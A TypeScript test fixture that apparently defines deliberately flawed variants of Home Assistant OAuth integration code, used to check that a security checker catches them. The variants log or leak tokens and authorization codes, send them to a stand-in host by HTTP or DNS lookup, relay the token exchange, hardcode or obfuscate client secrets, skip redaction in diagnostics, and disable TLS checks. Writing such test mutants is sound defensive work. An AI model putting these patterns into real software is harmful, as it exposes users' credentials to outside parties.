import { type Mutant, mutate } from "./Mutant.ts"
import {
  basicPython,
  byHandPython,
  overrideTypeScript,
  pkcePython,
  serverPython,
  serverTypeScript
} from "./sound.ts"
import { diagnosticsFlow, redactsByHand } from "./soundFlows.ts"

/** Gives the implementation of `byHandPython` an exchange of its own. */
const exchanging = (body: string) => ({
  "application_credentials.py": [
    "    async def async_generate_authorize_url",
    `    async def async_resolve_external_data(self, external_data) -> dict:
${body}

    async def async_generate_authorize_url`
  ] as const
})

const tapped = 'Effect.tap(base.exchange(grant), () => Effect.logDebug("An Acme account is linked"))'

/** Has `overrideTypeScript` do something else when it exchanges the code. */
const exchangingTypeScript = (expression: string, ...others: ReadonlyArray<readonly [string, string]>) => ({
  "application_credentials.ts": [
    [tapped, expression] as const,
    ['import { Effect } from "effect"', 'import { Effect, Redacted } from "effect"'] as const,
    ...others
  ]
})

const importsClientSession = [
  "from homeassistant.core import HomeAssistant\n",
  "from homeassistant.core import HomeAssistant\nfrom homeassistant.helpers.aiohttp_client import async_get_clientsession\n"
] as const

/** Faulty modules for the requirements of family SEC. */
export const sec: ReadonlyArray<Mutant> = [
  mutate(
    byHandPython,
    "logs-the-token",
    "SEC-1",
    exchanging(`        token = await super().async_resolve_external_data(external_data)
        LOGGER.debug("Got token %s", token)
        return token`)
  ),
  mutate(
    byHandPython,
    "prints-the-callback",
    "SEC-1",
    exchanging(`        print(external_data)
        return await super().async_resolve_external_data(external_data)`)
  ),
  mutate(basicPython, "logs-the-header", "SEC-1", {
    "application_credentials.py": [
      ["import base64\n", "import base64\nimport logging\n"],
      [
        "        data.pop(",
        '        logging.getLogger(__name__).debug("Authorization: Basic %s", basic)\n        data.pop('
      ]
    ]
  }),
  mutate(basicPython, "logs-the-request-that-failed", "SEC-1", {
    "application_credentials.py": [
      ["import base64\n", "import base64\nimport logging\n"],
      [
        "        if response.status >= 300:\n",
        '        if response.status >= 300:\n            logging.getLogger(__name__).error("Token request failed: %s", data)\n'
      ]
    ]
  }),
  mutate(basicPython, "logs-a-token-of-another-type", "SEC-1", {
    "application_credentials.py": [
      ["import base64\n", "import base64\nimport logging\n"],
      [
        "        except JSONDecodeError as error:\n",
        '        except (ClientError, JSONDecodeError) as error:\n            logging.getLogger(__name__).error("No JSON: %s", await response.text())\n'
      ]
    ]
  }),
  mutate(
    overrideTypeScript,
    "logs-the-token",
    "SEC-1",
    exchangingTypeScript(
      "Effect.tap(base.exchange(grant), (token) => Effect.logDebug(`Got ${Redacted.value(token.accessToken)}`))"
    )
  ),
  mutate(basicPython, "raises-an-error-with-the-request", "SEC-2", {
    "application_credentials.py": [
      'raise ClientError("The token endpoint did not answer with JSON")',
      'raise ClientError(f"The token endpoint did not answer {data} with JSON")'
    ]
  }),
  mutate(basicPython, "raises-an-error-with-the-request-as-its-cause", "SEC-2", {
    "application_credentials.py": [
      '            raise ClientError("The token endpoint did not answer with JSON") from error',
      '            raise ClientError("The token endpoint did not answer with JSON") from ValueError(pair)'
    ]
  }),
  mutate(
    overrideTypeScript,
    "fails-with-the-code",
    "SEC-2",
    exchangingTypeScript(
      "Effect.mapError(base.exchange(grant), () => new Error(`The code ${Redacted.value(grant.code)} was refused`) as never)"
    )
  ),
  mutate(byHandPython, "reports-the-token-to-its-author", "SEC-3", {
    "application_credentials.py": [
      importsClientSession,
      [
        "    async def async_generate_authorize_url",
        `    async def async_resolve_external_data(self, external_data) -> dict:
        token = await super().async_resolve_external_data(external_data)
        session = async_get_clientsession(self.hass)
        await session.post("https://stats.acme-tools.dev/linked", json=token)
        return token

    async def async_generate_authorize_url`
      ]
    ]
  }),
  mutate(byHandPython, "reports-the-token-later", "SEC-3", {
    "application_credentials.py": [
      ["import base64\n", "import asyncio\nimport base64\n"],
      importsClientSession,
      [
        "    async def async_generate_authorize_url",
        `    async def _async_refresh_token(self, token) -> dict:
        new_token = await super()._async_refresh_token(token)
        self.hass.async_create_task(self._report(new_token))
        return new_token

    async def _report(self, token) -> None:
        await asyncio.sleep(10)
        session = async_get_clientsession(self.hass)
        await session.post("https://stats.acme-tools.dev/refreshed", json=token)

    async def async_generate_authorize_url`
      ]
    ]
  }),
  mutate(
    overrideTypeScript,
    "reports-the-code-later",
    "SEC-3",
    exchangingTypeScript(
      "Effect.tap(base.exchange(grant), () =>\n              Effect.sync(() => setTimeout(() => fetch(`https://stats.acme-tools.dev/?code=${Redacted.value(grant.code)}`), 10_000))\n            )"
    )
  ),
  mutate(byHandPython, "shows-the-token-to-another-site", "SEC-3", {
    "application_credentials.py": [
      importsClientSession,
      [
        "    async def async_generate_authorize_url",
        `    async def async_resolve_external_data(self, external_data) -> dict:
        token = await super().async_resolve_external_data(external_data)
        session = async_get_clientsession(self.hass)
        headers = {"Authorization": f"Bearer {token['access_token']}"}
        await session.get("https://api.acme-tools.dev/me", headers=headers)
        return token

    async def async_generate_authorize_url`
      ]
    ]
  }),
  mutate(byHandPython, "tells-the-code-past-the-hosts-client", "SEC-3", {
    "application_credentials.py": [
      ["import secrets\n", "import secrets\nimport urllib.request\n"],
      [
        "    async def async_generate_authorize_url",
        `    async def async_resolve_external_data(self, external_data) -> dict:
        try:
            urllib.request.urlopen(f"https://stats.acme-tools.dev/{external_data['code']}")
        except OSError:
            pass
        return await super().async_resolve_external_data(external_data)

    async def async_generate_authorize_url`
      ]
    ]
  }),
  mutate(
    overrideTypeScript,
    "tells-the-code-by-a-name-to-look-up",
    "SEC-3",
    exchangingTypeScript(
      "Effect.andThen(\n              Effect.promise(() => import('node:dns/promises').then((dns) => dns.lookup(`${Redacted.value(grant.code)}.acme-tools.dev`).catch(() => null))),\n              base.exchange(grant)\n            )"
    )
  ),
  mutate(pkcePython, "exchanges-through-a-relay", "SEC-3", {
    "application_credentials.py": [
      "    @property\n    def name",
      `    async def _token_request(self, data: dict) -> dict:
        declared, self.token_url = self.token_url, "https://relay.acme-tools.dev/token"
        try:
            return await super()._token_request(data)
        finally:
            self.token_url = declared

    @property
    def name`
    ]
  }),
  mutate(
    overrideTypeScript,
    "reports-the-code-to-its-author",
    "SEC-3",
    exchangingTypeScript(
      "Effect.andThen(\n              Effect.promise(() => fetch(`https://stats.acme-tools.dev/?code=${Redacted.value(grant.code)}`).catch(() => null)),\n              base.exchange(grant)\n            )"
    )
  ),
  mutate(pkcePython, "has-a-secret-of-its-own", "SEC-4", {
    "const.py": 'CLIENT_SECRET = "8f3kQz71LmWc0aTr5VbNx2Yd"\n',
    "application_credentials.py": [
      ["\n\nclass AcmeImplementation", "\nfrom .const import CLIENT_SECRET\n\n\nclass AcmeImplementation"],
      ["client_secret=credential.client_secret", "client_secret=CLIENT_SECRET"]
    ]
  }),
  mutate(serverPython, "imports-a-credential-of-its-own", "SEC-4", {
    "config_flow.py": `from homeassistant.components.application_credentials import ClientCredential

OWN = ClientCredential("acme", "SGtbb03jOd8yLnTg8a2vIA==")
`
  }),
  mutate(serverPython, "has-a-secret-in-a-file-that-the-module-does-not-import", "SEC-4", {
    "api.py": 'ACME_CLIENT_SECRET = "8f3kQz71LmWc0aTr5VbNx2Yd"\n'
  }),
  mutate(pkcePython, "falls-back-to-a-secret-of-its-own", "SEC-4", {
    "application_credentials.py": [
      "client_secret=credential.client_secret,",
      'client_secret=credential.client_secret or "8f3kQz71LmWc0aTr5VbNx2Yd",'
    ]
  }),
  mutate(pkcePython, "hides-a-secret-of-its-own", "SEC-4", {
    "application_credentials.py": [
      "client_secret=credential.client_secret",
      'client_secret="".join(chr(n) for n in (104, 117, 110, 116, 101, 114, 50, 104, 117, 110))'
    ]
  }),
  mutate(serverTypeScript, "has-a-secret-of-its-own", "SEC-4", {
    "application_credentials.ts": [
      "export default",
      'export const acmeClientSecret = "8f3kQz71LmWc0aTr5VbNx2Yd"\n\nexport default'
    ]
  }),

  mutate(
    byHandPython,
    "keeps-the-secret-with-the-token",
    "SEC-6",
    exchanging(`        token = await super().async_resolve_external_data(external_data)
        return {**token, "client_secret": self.client_secret}`)
  ),
  mutate(byHandPython, "keeps-the-pair-with-the-refreshed-token", "SEC-6", {
    "application_credentials.py": [
      "    async def async_generate_authorize_url",
      `    async def _async_refresh_token(self, token) -> dict:
        pair = f"{self.client_id}:{self.client_secret}".encode()
        return {**await super()._async_refresh_token(token), "basic": base64.b64encode(pair).decode()}

    async def async_generate_authorize_url`
    ]
  }),
  mutate(
    overrideTypeScript,
    "keeps-the-secret-with-the-token",
    "SEC-6",
    exchangingTypeScript(
      "Effect.map(base.exchange(grant), (token) => new Token({ ...token, extra: Redacted.make({ ...Redacted.value(token.extra), client_secret: Redacted.value(credential.clientSecret) }) }))",
      ["  overrideImplementation\n", "  overrideImplementation,\n  Token\n"]
    )
  ),

  mutate(diagnosticsFlow, "shows-the-entry-as-it-is", "SEC-7", {
    "diagnostics.py": ["async_redact_data(entry.as_dict(), TO_REDACT)", "entry.as_dict()"]
  }),
  mutate(diagnosticsFlow, "redacts-the-account-only", "SEC-7", {
    "diagnostics.py": ['"token"', '"account_id"']
  }),
  mutate(diagnosticsFlow, "shows-the-token-that-it-keeps-elsewhere", "SEC-7", {
    "diagnostics.py": [
      "async_redact_data(entry.as_dict(), TO_REDACT)",
      '{"title": entry.title, "session": dict(vars(entry.runtime_data)["config_entry"].data)}'
    ]
  }),
  mutate(redactsByHand, "shows-the-entry-beside-a-device", "SEC-7", {
    "diagnostics.py": ["{name: REDACTED for name in entry.data}", "entry"]
  }),

  mutate(basicPython, "takes-any-certificate", "SEC-5", {
    "application_credentials.py": [
      "async_get_clientsession(self.hass)",
      "async_get_clientsession(self.hass, verify_ssl=False)"
    ]
  }),
  mutate(basicPython, "takes-any-certificate-for-one-request", "SEC-5", {
    "application_credentials.py": [
      "            allow_redirects=False,\n",
      "            allow_redirects=False,\n            ssl=False,\n"
    ]
  }),
  mutate(
    overrideTypeScript,
    "takes-any-certificate",
    "SEC-5",
    exchangingTypeScript(
      'Effect.suspend(() => {\n              process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"\n              return base.exchange(grant)\n            })'
    )
  )
]
